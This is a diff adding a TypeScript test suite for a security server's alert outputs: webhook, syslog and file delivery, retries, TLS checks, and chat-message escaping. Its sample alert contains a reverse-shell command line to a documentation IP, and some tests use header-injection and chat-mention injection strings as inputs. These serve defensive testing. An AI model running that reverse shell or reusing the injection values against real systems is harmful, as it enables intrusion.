@@ -1,0 +1,957 @@
+/**
+ * The server's alert outputs against real receivers started here on loopback: an HTTP server, a
+ * UDP socket, TCP and TLS servers (certificates from the server's own PKI code), and files.
+ * Every wire format is parsed back independently of the code that wrote it.
+ */
+import assert from 'node:assert/strict';
+import { webcrypto } from 'node:crypto';
+import dgram from 'node:dgram';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync, existsSync } from 'node:fs';
+import http from 'node:http';
+import https from 'node:https';
+import net from 'node:net';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { Writable } from 'node:stream';
+import { after, before, describe, it } from 'node:test';
+import tls from 'node:tls';
+import { Type, type TSchema } from '@sinclair/typebox';
+import { ALERT_SEVERITIES, AlertOutputsConfig, checkAlertOutputs } from '../../src/common/config/alert-outputs.js';
+import { parseConfig } from '../../src/common/config/index.js';
+import { HadesError } from '../../src/common/errors.js';
+import { SEVERITIES } from '../../src/rules/index.js';
+import { Logger } from '../../src/runtime/log.js';
+import { chatText, createAlertOutputs, type AlertOutputs, type OutputStats } from '../../src/server/alerts/outputs/index.js';
+import { backoffDelay } from '../../src/server/alerts/outputs/queue.js';
+import type { Alert } from '../../src/server/alerts/types.js';
+import { Pki, x509 } from '../../src/server/pki.js';
+import { projectRoot } from '../helpers/generated-docs.js';
+
+// --- helpers -------------------------------------------------------------------------------
+
+const folders: string[] = [];
+function tempDir(): string {
+  const dir = mkdtempSync(path.join(tmpdir(), 'hades-alert-outputs-'));
+  folders.push(dir);
+  return dir;
+}
+
+const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
+
+async function waitFor<T>(what: string, check: () => T | undefined | false, timeoutMs = 5000): Promise<T> {
+  const deadline = Date.now() + timeoutMs;
+  for (;;) {
+    const value = check();
+    if (value !== undefined && value !== false) return value;
+    if (Date.now() > deadline) assert.fail(`timed out waiting for ${what}`);
+    await sleep(10);
+  }
+}
+
+class LogSink extends Writable {
+  text = '';
+  override _write(chunk: Buffer, _encoding: BufferEncoding, callback: () => void): void {
+    this.text += chunk.toString('utf8');
+    callback();
+  }
+  lines(): any[] {
+    return this.text.split('\n').filter((l) => l.startsWith('{')).map((l) => JSON.parse(l));
+  }
+}
+
+function logger(sink = new LogSink()): Logger {
+  return Logger.fromConfig({ level: 'debug', file: null, max_mb: 16, max_files: 1 }, { stream: sink, bytesPerSecond: 0 });
+}
+
+/** The schema as the server mounts it: `alerts.outputs`. */
+const Wrapper = Type.Object(
+  { alerts: Type.Object({ outputs: AlertOutputsConfig }, { additionalProperties: false, default: {} }) },
+  { additionalProperties: false },
+);
+
+function outputsConfig(yaml: string): AlertOutputsConfig {
+  const result = parseConfig(yaml, Wrapper);
+  if (!result.ok) assert.fail(JSON.stringify(result.problems));
+  return result.config.alerts.outputs;
+}
+
+let alertSeq = 0;
+function makeAlert(overrides: Partial<Alert> & { severity?: Alert['rule']['severity'] } = {}): Alert {
+  const { severity, ...rest } = overrides;
+  const n = ++alertSeq;
+  return {
+    id: `3f6c1d2e-0000-4000-8000-${String(n).padStart(12, '0')}`,
+    '@timestamp': '2026-11-28T08:00:00.123Z',
+    last_seen: '2026-11-28T08:00:01.000Z',
+    count: 1,
+    rule: { id: 'hades.reverse_shell', title: 'Reverse shell', severity: severity ?? 'critical', tags: ['attack.t1059.004'], type: 'rule' },
+    message: 'bash connected its stdio to 203.0.113.7:4444',
+    host: { id: 'ag_0123456789abcdef', name: 'web-01' },
+    events: [{ event: { action: 'exec' }, process: { pid: 4242 } }],
+    process: { pid: 4242, executable: '/usr/bin/bash', command_line: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' },
+    status: 'new',
+    ...rest,
+  };
+}
+
+const quick = { max_attempts: 5, backoff_ms: 10, backoff_max_ms: 40 };
+const retryYaml = `retry: { max_attempts: ${quick.max_attempts}, backoff_ms: ${quick.backoff_ms}, backoff_max_ms: ${quick.backoff_max_ms} }`;
+
+const open: AlertOutputs[] = [];
+function create(yaml: string, log = logger()): AlertOutputs {
+  const outputs = createAlertOutputs(outputsConfig(yaml), log, { hostname: 'hades-test', random: () => 0.5 });
+  open.push(outputs);
+  return outputs;
+}
+const statsOf = (outputs: AlertOutputs, name: string): OutputStats => outputs.stats().find((s) => s.name === name)!;
+
+async function freePort(): Promise<number> {
+  const server = net.createServer();
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const port = (server.address() as net.AddressInfo).port;
+  await new Promise((resolve) => server.close(resolve));
+  return port;
+}
+
+/** An HTTP receiver that records requests and answers from a list of statuses (then 200), or never. */
+class HttpReceiver {
+  readonly requests: { url: string; headers: http.IncomingHttpHeaders; body: string }[] = [];
+  statuses: number[] = [];
+  hang = false;
+  private readonly server = http.createServer((req, res) => {
+    let body = '';
+    req.setEncoding('utf8');
+    req.on('data', (chunk: string) => (body += chunk));
+    req.on('end', () => {
+      this.requests.push({ url: req.url ?? '', headers: req.headers, body });
+      if (this.hang) return;
+      const status = this.statuses.shift() ?? 200;
+      res.writeHead(status, { 'content-type': 'text/plain' }).end(status === 200 ? 'ok' : `status ${status}\nfrom receiver`);
+    });
+  });
+
+  async start(port = 0): Promise<string> {
+    await new Promise<void>((resolve) => this.server.listen(port, '127.0.0.1', resolve));
+    return `http://127.0.0.1:${(this.server.address() as net.AddressInfo).port}`;
+  }
+
+  async close(): Promise<void> {
+    this.server.closeAllConnections();
+    await new Promise((resolve) => this.server.close(resolve));
+  }
+}
+
+/** A syslog receiver over TCP or TLS that splits octet-counted frames and checks every count. */
+class StreamReceiver {
+  readonly messages: string[] = [];
+  readonly frameErrors: string[] = [];
+  readonly peers: (tls.PeerCertificate | undefined)[] = [];
+  private readonly sockets = new Set<net.Socket>();
+  private readonly server: net.Server;
+
+  constructor(tlsOptions?: tls.TlsOptions) {
+    const onSocket = (socket: net.Socket): void => {
+      this.sockets.add(socket);
+      socket.on('close', () => this.sockets.delete(socket));
+      socket.on('error', () => socket.destroy());
+      if (socket instanceof tls.TLSSocket) this.peers.push(socket.getPeerCertificate());
+      let buffer = Buffer.alloc(0);
+      socket.on('data', (chunk: Buffer) => {
+        buffer = Buffer.concat([buffer, chunk]);
+        for (;;) {
+          const space = buffer.indexOf(0x20);
+          if (space < 0) break;
+          const prefix = buffer.subarray(0, space).toString('latin1');
+          if (!/^[1-9]\d{0,8}$/.test(prefix)) {
+            this.frameErrors.push(`bad MSG-LEN ${JSON.stringify(prefix)}`);
+            socket.destroy();
+            return;
+          }
+          const length = Number(prefix);
+          if (buffer.length < space + 1 + length) break;
+          this.messages.push(buffer.subarray(space + 1, space + 1 + length).toString('utf8'));
+          buffer = buffer.subarray(space + 1 + length);
+        }
+      });
+    };
+    this.server = tlsOptions ? tls.createServer(tlsOptions, onSocket) : net.createServer(onSocket);
+  }
+
+  async start(port = 0): Promise<number> {
+    await new Promise<void>((resolve, reject) => this.server.once('error', reject).listen(port, '127.0.0.1', resolve));
+    return (this.server.address() as net.AddressInfo).port;
+  }
+
+  /** Drops the open connections, as a receiver that restarts does. */
+  dropConnections(): void {
+    for (const socket of this.sockets) socket.destroy();
+  }
+
+  async close(): Promise<void> {
+    this.dropConnections();
+    await new Promise((resolve) => this.server.close(resolve));
+  }
+}
+
+interface ParsedSyslog {
+  pri: number;
+  version: string;
+  timestamp: string;
+  hostname: string;
+  appName: string;
+  procId: string;
+  msgId: string;
+  sd: Record<string, Record<string, string>>;
+  msg: string;
+}
+
+/** An RFC 5424 parser written from the RFC's ABNF, independent of the formatter under test. */
+function parseSyslog(line: string): ParsedSyslog {
+  const head = /^<(\d{1,3})>(\d) (\S+) (\S+) (\S+) (\S+) (\S+) /.exec(line);
+  assert.ok(head, `not an RFC 5424 header: ${line.slice(0, 120)}`);
+  let i = head[0].length;
+  const sd: Record<string, Record<string, string>> = {};
+  if (line[i] === '-') i++;
+  else {
+    while (line[i] === '[') {
+      i++;
+      let id = '';
+      while (line[i] !== ' ' && line[i] !== ']') id += line[i++];
+      const params: Record<string, string> = {};
+      while (line[i] === ' ') {
+        i++;
+        let name = '';
+        while (line[i] !== '=') name += line[i++];
+        assert.equal(line.slice(i, i + 2), '="', `PARAM-VALUE of ${name} must be quoted`);
+        i += 2;
+        let value = '';
+        for (;;) {
+          const c = line[i++];
+          assert.ok(c !== undefined, 'unterminated PARAM-VALUE');
+          if (c === '\\' && (line[i] === '"' || line[i] === '\\' || line[i] === ']')) value += line[i++];
+          else if (c === '"') break;
+          else {
+            assert.ok(c !== ']', `unescaped ] in PARAM-VALUE of ${name}`);
+            value += c;
+          }
+        }
+        params[name] = value;
+      }
+      assert.equal(line[i], ']');
+      i++;
+      sd[id] = params;
+    }
+  }
+  assert.equal(line[i], ' ', 'MSG must follow a space');
+  return {
+    pri: Number(head[1]),
+    version: head[2]!,
+    timestamp: head[3]!,
+    hostname: head[4]!,
+    appName: head[5]!,
+    procId: head[6]!,
+    msgId: head[7]!,
+    sd,
+    msg: line.slice(i + 1),
+  };
+}
+
+/** Resource kinds Node holds open (sockets, timers, ...), counted. */
+function resources(): Record<string, number> {
+  const counts: Record<string, number> = {};
+  for (const r of process.getActiveResourcesInfo()) counts[r] = (counts[r] ?? 0) + 1;
+  return counts;
+}
+
+async function csrAndKey(name: string): Promise<{ csrPem: string; keyPem: string }> {
+  const keys = await webcrypto.subtle.generateKey({ name: 'ECDSA', namedCurve: 'P-256' }, true, ['sign', 'verify']);
+  const csr = await x509.Pkcs10CertificateRequestGenerator.create({ name: `CN=${name}`, keys, signingAlgorithm: { name: 'ECDSA', hash: 'SHA-256' } }, webcrypto);
+  const der = Buffer.from(await webcrypto.subtle.exportKey('pkcs8', keys.privateKey));
+  return { csrPem: csr.toString('pem'), keyPem: `-----BEGIN PRIVATE KEY-----\n${der.toString('base64').replace(/(.{64})/g, '$1\n').replace(/\n$/, '')}\n-----END PRIVATE KEY-----\n` };
+}
+
+/** Two certificate authorities, from the server's own PKI code: the receivers' and a stranger. */
+let pki: Pki;
+let otherCaFile = '';
+let clientCertFile = '';
+let clientKeyFile = '';
+before(async () => {
+    pki = await Pki.open(tempDir(), { hostnames: [], ips: [] });
+    const other = await Pki.open(tempDir(), { hostnames: [], ips: [] });
+    otherCaFile = other.paths.caCert;
+    const dir = tempDir();
+    const { csrPem, keyPem } = await csrAndKey('hades-server');
+    const issued = await pki.signAgentCsr(csrPem, 'ag_alerts');
+    clientCertFile = path.join(dir, 'client.pem');
+    clientKeyFile = path.join(dir, 'client.key');
+    writeFileSync(clientCertFile, issued.certPem);
+    writeFileSync(clientKeyFile, keyPem, { mode: 0o600 });
+});
+
+after(async () => {
+  for (const outputs of open.splice(0)) await outputs.close(100);
+  for (const dir of folders.splice(0)) rmSync(dir, { recursive: true, force: true });
+});
+
+// --- configuration -------------------------------------------------------------------------
+
+describe('alert outputs: configuration', () => {
+  it('fills every default and freezes the result', () => {
+    const [webhook, syslog, file] = outputsConfig(`
+alerts:
+  outputs:
+    - { name: chat, type: webhook, webhook: { url: "https://chat.example.org/hooks/x" } }
+    - { name: siem, type: syslog, syslog: { host: siem.example.org } }
+    - { name: archive, type: file, file: { path: /var/log/hades/alerts.ndjson } }
+`);
+    assert.deepEqual(webhook, {
+      name: 'chat',
+      type: 'webhook',
+      min_severity: 'info',
+      queue: 1000,
+      retry: { max_attempts: 5, backoff_ms: 500, backoff_max_ms: 60_000 },
+      webhook: {
+        url: 'https://chat.example.org/hooks/x',
+        format: 'json',
+        chat_dialect: 'slack',
+        link_base_url: null,
+        headers: {},
+        timeout_ms: 10_000,
+        tls: { ca_file: null, cert_file: null, key_file: null, insecure: false },
+      },
+    });
+    assert.deepEqual(syslog?.syslog, {
+      host: 'siem.example.org',
+      transport: 'tls',
+      port: null,
+      facility: 'local0',
+      app_name: 'hades',
+      hostname: null,
+      max_message_bytes: 8192,
+      timeout_ms: 10_000,
+      tls: { ca_file: null, cert_file: null, key_file: null, insecure: false },
+    });
+    assert.deepEqual(file?.file, { path: '/var/log/hades/alerts.ndjson', max_mb: 100, keep: 5 });
+    assert.ok(Object.isFrozen(webhook?.webhook?.headers));
+    assert.deepEqual(outputsConfig(''), []);
+  });
+
+  it('reports bad outputs with codes and positions: unknown type, missing host, bad URL, unknown key', () => {
+    const result = parseConfig(
+      `alerts:
+  outputs:
+    - name: a
+      type: email
+    - name: b
+      type: syslog
+      syslog: { transport: udp }
+    - name: c
+      type: webhook
+      webhook: { url: "ftp://files.example.org/x" }
+    - name: d
+      type: webhook
+      webhook: { url: "https://x.example.org", headers: { "Bad Header": v }, timeout: 5 }
+    - name: Bad Name
+      type: file
+      min_severity: urgent
+      file: { path: relative.ndjson }
+`,
+      Wrapper,
+    );
+    assert.equal(result.ok, false);
+    const problems = result.ok ? [] : result.problems.map((p) => ({ code: p.code, path: p.path, line: p.line, suggestion: p.suggestion }));
+    assert.deepEqual(problems, [
+      { code: 'HADES_ERR_CONFIG_VALUE', path: 'alerts.outputs.0.type', line: 4, suggestion: undefined },
+      { code: 'HADES_ERR_CONFIG_MISSING_KEY', path: 'alerts.outputs.1.syslog.host', line: 7, suggestion: undefined },
+      { code: 'HADES_ERR_CONFIG_VALUE', path: 'alerts.outputs.2.webhook.url', line: 10, suggestion: undefined },
+      { code: 'HADES_ERR_CONFIG_UNKNOWN_KEY', path: 'alerts.outputs.3.webhook.headers.Bad Header', line: 13, suggestion: undefined },
+      { code: 'HADES_ERR_CONFIG_UNKNOWN_KEY', path: 'alerts.outputs.3.webhook.timeout', line: 13, suggestion: 'timeout_ms' },
+      { code: 'HADES_ERR_CONFIG_VALUE', path: 'alerts.outputs.4.name', line: 14, suggestion: undefined },
+      { code: 'HADES_ERR_CONFIG_VALUE', path: 'alerts.outputs.4.min_severity', line: 16, suggestion: undefined },
+      { code: 'HADES_ERR_CONFIG_VALUE', path: 'alerts.outputs.4.file.path', line: 17, suggestion: undefined },
+    ]);
+    const messages = result.ok ? '' : result.problems.map((p) => p.message).join('\n');
+    assert.match(messages, /'alerts\.outputs\.0\.type' must be one of "webhook", "syslog", "file" \(got "email"\)/);
+    assert.match(messages, /an http:\/\/ or https:\/\/ URL/);
+  });
+
+  it('checks what the schema cannot, with HADES_ERR_ALERT_OUTPUT_CONFIG, and createAlertOutputs refuses it', () => {
+    const config = outputsConfig(`
+alerts:
+  outputs:
+    - { name: a, type: syslog, webhook: { url: "https://x.example.org" } }
+    - { name: a, type: webhook, webhook: { url: "https://exa mple.org/SECRET-TOKEN" } }
+    - { name: c, type: webhook, webhook: { url: "http://x.example.org", headers: { Content-Length: "1", X-Token: "SECRET-VALUE\\nX-Injected: 1" }, tls: { ca_file: /etc/ca.pem } } }
+    - { name: d, type: syslog, syslog: { host: h, transport: tcp, tls: { cert_file: /etc/c.pem } } }
+    - { name: e, type: file, file: { path: /tmp/x }, retry: { backoff_ms: 1000, backoff_max_ms: 10 } }
+`);
+    const problems = checkAlertOutputs(config);
+    assert.ok(problems.every((p) => p.code === 'HADES_ERR_ALERT_OUTPUT_CONFIG'));
+    assert.deepEqual(
+      problems.map((p) => p.path),
+      [
+        'alerts.outputs.0.syslog',
+        'alerts.outputs.0.webhook',
+        'alerts.outputs.1.name',
+        'alerts.outputs.1.webhook.url',
+        'alerts.outputs.2.webhook.headers.Content-Length',
+        'alerts.outputs.2.webhook.headers.X-Token',
+        'alerts.outputs.2.webhook.tls',
+        'alerts.outputs.3.syslog.tls',
+        'alerts.outputs.3.syslog.tls',
+        'alerts.outputs.4.retry.backoff_max_ms',
+      ],
+    );
+    try {
+      createAlertOutputs(config, logger());
+      assert.fail('accepted');
+    } catch (e) {
+      assert.ok(e instanceof HadesError);
+      assert.equal(e.code, 'HADES_ERR_CONFIG_INVALID');
+      assert.match(e.message, /HADES_ERR_ALERT_OUTPUT_CONFIG: output 'a': the URL does not parse/);
+      // A webhook URL is a secret: it is never repeated in a message.
+      assert.ok(!e.message.includes('SECRET-TOKEN'));
+      assert.ok(!e.message.includes('SECRET-VALUE'));
+    }
+  });
+
+  it('refuses at creation a TLS file that cannot be read, with HADES_ERR_ALERT_OUTPUT_TLS', () => {
+    const config = outputsConfig(`
+alerts:
+  outputs:
+    - { name: s, type: syslog, syslog: { host: 127.0.0.1, tls: { ca_file: /nonexistent/ca.pem } } }
+`);
+    assert.throws(() => createAlertOutputs(config, logger()), (e: unknown) => e instanceof HadesError && e.code === 'HADES_ERR_ALERT_OUTPUT_TLS' && /ENOENT/.test(e.message));
+  });
+
+  it('knows the rule engine\'s severities, and docs/alert-outputs.md names every key', () => {
+    assert.deepEqual([...ALERT_SEVERITIES], [...SEVERITIES]);
+    const doc = readFileSync(path.join(projectRoot, 'docs/alert-outputs.md'), 'utf8');
+    const keys = new Set<string>();
+    const walk = (schema: TSchema): void => {
+      const s = schema as { properties?: Record<string, TSchema>; items?: TSchema; anyOf?: TSchema[] };
+      for (const [key, child] of Object.entries(s.properties ?? {})) {
+        keys.add(key);
+        walk(child);
+      }
+      if (s.items) walk(s.items);
+      for (const option of s.anyOf ?? []) walk(option);
+    };
+    walk(AlertOutputsConfig);
+    for (const key of keys) assert.ok(doc.includes(`\`${key}\``), `docs/alert-outputs.md does not describe \`${key}\``);
+    for (const code of ['CONFIG', 'REFUSED', 'UNREACHABLE', 'TIMEOUT', 'BAD_STATUS', 'TLS', 'WRITE', 'DROPPED']) assert.ok(doc.includes(`HADES_ERR_ALERT_OUTPUT_${code}`), code);
+  });
+
+  it('backs off exponentially with jitter, up to the cap', () => {
+    assert.equal(backoffDelay(1, 100, 10_000, () => 0), 50);
+    assert.equal(backoffDelay(1, 100, 10_000, () => 0.999_999), 100);
+    assert.equal(backoffDelay(4, 100, 10_000, () => 0.5), 600);
+    assert.equal(backoffDelay(60, 100, 10_000, () => 1), 10_000);
+  });
+});
+
+// --- webhook -------------------------------------------------------------------------------
+
+describe('alert outputs: webhook', () => {
+  const receiver = new HttpReceiver();
+  let base = '';
+  before(async () => {
+    base = await receiver.start();
+  });
+  after(() => receiver.close());
+
+  it('POSTs the alert document as JSON with the configured headers, and logs no secret', async () => {
+    receiver.requests.length = 0;
+    const sink = new LogSink();
+    const outputs = create(
+      `alerts:
+  outputs:
+    - name: soc
+      type: webhook
+      ${retryYaml}
+      webhook:
+        url: "${base}/hooks/SECRETPATH123"
+        headers: { Authorization: "Bearer TOPSECRET", X-Tenant: "ALSOSECRET" }
+`,
+      logger(sink),
+    );
+    receiver.statuses = [500];
+    const alert = makeAlert({ message: 'non-ASCII: é 漢字 😀' });
+    outputs.send(alert);
+    await waitFor('delivery', () => statsOf(outputs, 'soc').sent === 1);
+    assert.equal(receiver.requests.length, 2);
+    const request = receiver.requests[1]!;
+    assert.equal(request.url, '/hooks/SECRETPATH123');
+    assert.equal(request.headers['content-type'], 'application/json');
+    assert.equal(request.headers['authorization'], 'Bearer TOPSECRET');
+    assert.equal(request.headers['x-tenant'], 'ALSOSECRET');
+    assert.equal(request.body, JSON.stringify(alert));
+    assert.deepEqual(JSON.parse(request.body), alert);
+    const stats = statsOf(outputs, 'soc');
+    assert.equal(stats.target, base);
+    await outputs.close();
+    for (const secret of ['SECRETPATH123', 'TOPSECRET', 'ALSOSECRET']) {
+      assert.ok(!sink.text.includes(secret), `the log holds ${secret}`);
+      assert.ok(!JSON.stringify(outputs.stats()).includes(secret), `the counters hold ${secret}`);
+    }
+    // What was logged: the output, its header names, and the failure with its code.
+    const lines = sink.lines();
+    assert.ok(lines.some((l) => l.msg === "alert output 'soc' ready" && l.header_names.join() === 'Authorization,X-Tenant'));
+    assert.ok(lines.some((l) => l.code === 'HADES_ERR_ALERT_OUTPUT_BAD_STATUS'));
+  });
+
+  it('retries a 5xx with backoff until the receiver recovers, and counts it', async () => {
+    receiver.requests.length = 0;
+    const outputs = create(`alerts: { outputs: [ { name: w, type: webhook, ${retryYaml}, webhook: { url: "${base}/in" } } ] }`);
+    receiver.statuses = [500, 503, 200];
+    const alert = makeAlert();
+    outputs.send(alert);
+    await waitFor('delivery', () => statsOf(outputs, 'w').sent === 1);
+    const stats = statsOf(outputs, 'w');
+    assert.deepEqual(
+      { sent: stats.sent, failed: stats.failed, failed_attempts: stats.failed_attempts, retries: stats.retries, dropped: stats.dropped, queued: stats.queued },
+      { sent: 1, failed: 0, failed_attempts: 2, retries: 2, dropped: 0, queued: 0 },
+    );
+    assert.equal(stats.last_error?.code, 'HADES_ERR_ALERT_OUTPUT_BAD_STATUS');
+    assert.match(stats.last_error?.message ?? '', /answered 503: status 503 from receiver/);
+    assert.ok(stats.last_sent_at !== null);
+    assert.deepEqual(receiver.requests.map((r) => r.body), [JSON.stringify(alert), JSON.stringify(alert), JSON.stringify(alert)]);
+  });
+
+  it('gives an alert up after max_attempts answered failures, and a 4xx at once', async () => {
+    receiver.requests.length = 0;
+    const outputs = create(`alerts: { outputs: [ { name: w, type: webhook, retry: { max_attempts: 2, backoff_ms: 10, backoff_max_ms: 20 }, webhook: { url: "${base}/in" } } ] }`);
+    receiver.statuses = [500, 500, 404, 200];
+    const [first, second, third] = [makeAlert(), makeAlert(), makeAlert()];
+    outputs.send(first);
+    outputs.send(second);
+    outputs.send(third);
+    await waitFor('the third alert', () => statsOf(outputs, 'w').sent === 1);
+    const stats = statsOf(outputs, 'w');
+    assert.deepEqual({ sent: stats.sent, failed: stats.failed, failed_attempts: stats.failed_attempts }, { sent: 1, failed: 2, failed_attempts: 3 });
+    assert.deepEqual(
+      receiver.requests.map((r) => JSON.parse(r.body).id),
+      [first.id, first.id, second.id, third.id],
+    );
+    assert.equal(stats.last_error?.code, 'HADES_ERR_ALERT_OUTPUT_BAD_STATUS');
+  });
+
+  it('sends only alerts at or above min_severity, and counts the others as filtered', async () => {
+    receiver.requests.length = 0;
+    const outputs = create(`alerts: { outputs: [ { name: w, type: webhook, min_severity: high, webhook: { url: "${base}/in" } } ] }`);
+    for (const severity of ['info', 'low', 'medium', 'high', 'critical'] as const) outputs.send(makeAlert({ severity }));
+    await waitFor('delivery', () => statsOf(outputs, 'w').sent === 2);
+    assert.deepEqual(receiver.requests.map((r) => JSON.parse(r.body).rule.severity), ['high', 'critical']);
+    assert.equal(statsOf(outputs, 'w').filtered, 3);
+  });
+
+  it('formats a chat message for Slack and for Mattermost, that the host it is about cannot abuse', async () => {
+    receiver.requests.length = 0;
+    const outputs = create(`alerts:
+  outputs:
+    - { name: slack, type: webhook, webhook: { url: "${base}/slack", format: chat, link_base_url: "https://hades.example.org/alerts/" } }
+    - { name: mm, type: webhook, webhook: { url: "${base}/mm", format: chat, chat_dialect: mattermost } }
+`);
+    const alert = makeAlert({ id: 'a1', count: 3 });
+    outputs.send(alert);
+    await waitFor('both', () => receiver.requests.length === 2);
+    const body = (url: string) => JSON.parse(receiver.requests.find((r) => r.url === url)!.body);
+    assert.deepEqual(Object.keys(body('/slack')), ['text']);
+    assert.equal(
+      body('/slack').text,
+      [
+        ':rotating_light: *CRITICAL* Reverse shell',
+        'Host: web-01 (agent ag_0123456789abcdef)',
+        'Rule: hades.reverse_shell · 3 matches · 2026-11-28T08:00:00.123Z',
+        '```',
+        'bash -i &gt;&amp; /dev/tcp/203.0.113.7/4444 0&gt;&amp;1',
+        '```',
+        '<https://hades.example.org/alerts/a1|Open in Hades>',
+      ].join('\n'),
+    );
+    assert.equal(
+      body('/mm').text,
+      [
+        ':rotating_light: **CRITICAL** Reverse shell',
+        'Host: web\\-01 (agent ag\\_0123456789abcdef)',
+        'Rule: hades\\.reverse\\_shell · 3 matches · 2026\\-11\\-28T08\\:00\\:00\\.123Z',
+        '```',
+        'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
+        '```',
+      ].join('\n'),
+    );
+
+    // A command line and a host name chosen by an attacker on that host.
+    const hostile = makeAlert({
+      host: { id: 'ag_1', name: 'web-01<!channel>' },
+      process: { args: ['sh', '-c', 'echo <!channel> ```\n@all [x](https://evil)'] },
+    });
+    const slack = chatText(hostile, 'slack', null).split('\n');
+    assert.equal(slack[1], 'Host: web-01??channel? (agent ag_1)');
+    assert.equal(slack[4], 'sh -c echo &lt;!channel&gt; `\u200b`\u200b` @all [x](https://evil)');
+    const mm = chatText(hostile, 'mattermost', null).split('\n');
+    assert.equal(mm[4], 'sh -c echo <\u200b!channel> `\u200b`\u200b` @all [x](https://evil)');
+    assert.equal(mm.length, 6, 'the code block stays closed');
+  });
+
+  it('counts a receiver that is down as refused, keeps the alert, and delivers once it is up', async () => {
+    const port = await freePort();
+    const outputs = create(`alerts: { outputs: [ { name: w, type: webhook, retry: { max_attempts: 1, backoff_ms: 10, backoff_max_ms: 20 }, webhook: { url: "http://127.0.0.1:${port}/in" } } ] }`);
+    const alert = makeAlert();
+    outputs.send(alert);
+    await waitFor('refusals', () => statsOf(outputs, 'w').failed_attempts >= 3);
+    // Not reaching the receiver uses up none of the alert's attempts (max_attempts is 1).
+    assert.equal(statsOf(outputs, 'w').failed, 0);
+    assert.equal(statsOf(outputs, 'w').last_error?.code, 'HADES_ERR_ALERT_OUTPUT_REFUSED');
+    const late = new HttpReceiver();
+    await late.start(port);
+    try {
+      await waitFor('delivery after recovery', () => statsOf(outputs, 'w').sent === 1);
+      assert.equal(late.requests[0]?.body, JSON.stringify(alert));
+      assert.ok(statsOf(outputs, 'w').retries >= 3);
+    } finally {
+      await outputs.close();
+      await late.close();
+    }
+  });
+
+  it('times out a receiver that never answers, never blocks the caller, drops the oldest, and closes within its deadline', async () => {
+    const hanging = new HttpReceiver();
+    hanging.hang = true;
+    const url = await hanging.start();
+    const sink = new LogSink();
+    const outputs = createAlertOutputs(
+      outputsConfig(`alerts: { outputs: [ { name: w, type: webhook, queue: 10, retry: { max_attempts: 0, backoff_ms: 10, backoff_max_ms: 20 }, webhook: { url: "${url}/in", timeout_ms: 100 } } ] }`),
+      logger(sink),
+    );
+    const started = performance.now();
+    for (let i = 0; i < 1000; i++) outputs.send(makeAlert());
+    const took = performance.now() - started;
+    assert.ok(took < 500, `1000 sends took ${took} ms`);
+    await waitFor('timeouts', () => statsOf(outputs, 'w').failed_attempts >= 2);
+    let stats = statsOf(outputs, 'w');
+    assert.equal(stats.last_error?.code, 'HADES_ERR_ALERT_OUTPUT_TIMEOUT');
+    // 10 wait, 1 is being delivered: the 989 oldest of the others were dropped.
+    assert.equal(stats.queued, 11);
+    assert.equal(stats.dropped, 989);
+    const closing = performance.now();
+    await outputs.close(150);
+    assert.ok(performance.now() - closing < 1000, 'close kept its deadline');
+    stats = statsOf(outputs, 'w');
+    assert.equal(stats.queued, 0);
+    assert.equal(stats.dropped, 1000);
+    assert.equal(stats.sent, 0);
+    const dropWarnings = sink.lines().filter((l) => l.code === 'HADES_ERR_ALERT_OUTPUT_DROPPED');
+    assert.equal(dropWarnings.length, 2, 'one warning when the queue fills, one at close');
+    // Alerts sent after close are counted, not kept.
+    outputs.send(makeAlert());
+    assert.equal(statsOf(outputs, 'w').dropped, 1001);
+    await hanging.close();
+  });
+
+  it('flushes what is queued at close when the receiver keeps up', async () => {
+    receiver.requests.length = 0;
+    const outputs = createAlertOutputs(outputsConfig(`alerts: { outputs: [ { name: w, type: webhook, webhook: { url: "${base}/in" } } ] }`), logger());
+    for (let i = 0; i < 20; i++) outputs.send(makeAlert());
+    await outputs.close(5000);
+    assert.equal(receiver.requests.length, 20);
+    assert.equal(statsOf(outputs, 'w').sent, 20);
+  });
+
+  it('verifies an https receiver against tls.ca_file, and counts another CA as a TLS failure', async () => {
+    const requests: string[] = [];
+    const server = https.createServer({ key: pki.serverKeyPem, cert: pki.serverCertPem }, (req, res) => {
+      requests.push(req.url ?? '');
+      req.resume();
+      req.on('end', () => res.end('ok'));
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    const url = `https://localhost:${(server.address() as net.AddressInfo).port}`;
+    try {
+      const outputs = create(`alerts:
+  outputs:
+    - { name: good, type: webhook, ${retryYaml}, webhook: { url: "${url}/good", tls: { ca_file: ${pki.paths.caCert} } } }
+    - { name: stranger, type: webhook, ${retryYaml}, webhook: { url: "${url}/bad", tls: { ca_file: ${otherCaFile} } } }
+`);
+      outputs.send(makeAlert());
+      await waitFor('delivery and failures', () => statsOf(outputs, 'good').sent === 1 && statsOf(outputs, 'stranger').failed_attempts >= 2);
+      const stranger = statsOf(outputs, 'stranger');
+      assert.equal(stranger.last_error?.code, 'HADES_ERR_ALERT_OUTPUT_TLS');
+      assert.deepEqual({ sent: stranger.sent, failed: stranger.failed, queued: stranger.queued }, { sent: 0, failed: 0, queued: 1 });
+      assert.deepEqual(requests, ['/good']);
+      await outputs.close(50);
+    } finally {
+      server.closeAllConnections();
+      await new Promise((resolve) => server.close(resolve));
+    }
+  });
+
+  it('fails an alert it cannot format, and goes on with the next', async () => {
+    receiver.requests.length = 0;
+    const outputs = create(`alerts: { outputs: [ { name: w, type: webhook, ${retryYaml}, webhook: { url: "${base}/in", format: chat } } ] }`);
+    const broken = makeAlert();
+    outputs.send({ ...broken, rule: { ...broken.rule, title: undefined as unknown as string } });
+    outputs.send(makeAlert());
+    await waitFor('the next alert', () => statsOf(outputs, 'w').sent === 1);
+    const stats = statsOf(outputs, 'w');
+    assert.deepEqual({ failed: stats.failed, failed_attempts: stats.failed_attempts, retries: stats.retries }, { failed: 1, failed_attempts: 1, retries: 0 });
+    assert.equal(stats.last_error?.code, 'HADES_ERR_INTERNAL');
+    assert.equal(receiver.requests.length, 1);
+  });
+
+  it('never throws from send, whatever the alert', async () => {
+    const sink = new LogSink();
+    const outputs = createAlertOutputs(outputsConfig(`alerts: { outputs: [ { name: w, type: webhook, webhook: { url: "${base}/in" } } ] }`), logger(sink));
+    outputs.send(makeAlert({ events: [{ size: 1n }] }));
+    outputs.send(null as unknown as Alert);
+    await outputs.close(100);
